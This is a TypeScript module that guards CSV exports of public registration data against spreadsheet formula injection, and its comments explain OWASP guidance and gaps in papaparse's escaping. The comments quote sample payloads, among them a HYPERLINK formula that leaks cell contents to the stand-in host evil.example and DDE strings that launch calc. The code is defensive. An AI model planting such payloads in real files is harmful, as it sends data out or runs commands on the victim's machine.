/**
 * Guard against CSV / formula injection (OWASP "CSV Injection").
 *
 * Registrations hold text typed by the public (names, companies, comments). Excel and
 * LibreOffice evaluate a cell whose text starts with `=`, `+`, `-` or `@` as a formula, so a
 * name like `=HYPERLINK("https://evil.example?"&A1,"Click")` would run on the promoter's
 * machine. Tab, CR and LF are on the list too: some spreadsheet versions skip leading
 * whitespace on import and then see the formula behind it.
 *
 * Why quoting is not enough: CSV quotes only delimit the field; Excel strips them and then
 * evaluates the text inside. `"=1+1"` still shows 2. The fix OWASP recommends is to make the
 * cell start with a single quote, which spreadsheets treat as text.
 *
 * Why not papaparse's own `escapeFormulae`: in papaparse 5.7.1 (node_modules/papaparse/
 * papaparse.js, line 299) the option becomes
 *     _escapeFormulae = /^[=+\-@\t\r].*$/;
 * which misses two cases:
 * 1. LF is not in the character class, so a cell starting with "\n" (e.g. "\n=cmd|'/c calc'!A0")
 *    is written unescaped.
 * 2. `.` does not match line breaks and `$` (no `m`/`s` flag) only matches at the very end, so
 *    ANY cell containing a line break after the trigger fails the test: "=1+1\nfoo" and
 *    "\r\n=1+1" are written unescaped too. Multi-line comments are exactly the field where an
 *    attacker would hide a payload.
 * So build-csv turns that option off and runs this guard on every cell, headers included.
 *
 * Decisions:
 * - Harmless-looking values are guarded too: a lone "-" (a placeholder for "none") becomes
 *   "'-", a phone number "+41 79 123 45 67" becomes "'+41 79 123 45 67", a negative amount
 *   "-12" becomes "'-12". That is what OWASP recommends: guessing which of them are "really"
 *   formulas is how bypasses happen (`-1+1+cmd|' /C calc'!A0` starts like arithmetic). The
 *   value stays readable, and a phone number is no longer turned into a number that loses
 *   its "+".
 * - Only the first character matters; "a=b" or "x@example.com" is left alone.
 * - The empty string stays empty.
 */

/** First characters that make a spreadsheet treat the cell as a formula. */
const TRIGGER_CHARS: ReadonlySet<string> = new Set(['=', '+', '-', '@', '\t', '\r', '\n']);

const GUARD_PREFIX = "'";

function startsWithTrigger(cell: string): boolean {
  // Every trigger is a single UTF-16 unit, so indexing (not code points) is correct here.
  return TRIGGER_CHARS.has(cell.charAt(0));
}

/** Make a cell safe to open in a spreadsheet: prefix `'` when it starts with a trigger. */
export function guardFormula(cell: string): string {
  return startsWithTrigger(cell) ? GUARD_PREFIX + cell : cell;
}

/**
 * Undo {@link guardFormula} on its output: drop a `'` that is followed by a trigger character.
 *
 * Only valid for guarded output. The guard is not one-to-one: "'=x" is left as is and "=x"
 * also becomes "'=x", so `unguardFormula(guardFormula(s)) === s` holds for every `s` except
 * those that already start with `'` followed by a trigger. Do not use it on user input.
 */
export function unguardFormula(cell: string): string {
  return cell.startsWith(GUARD_PREFIX) && startsWithTrigger(cell.slice(1)) ? cell.slice(1) : cell;
}
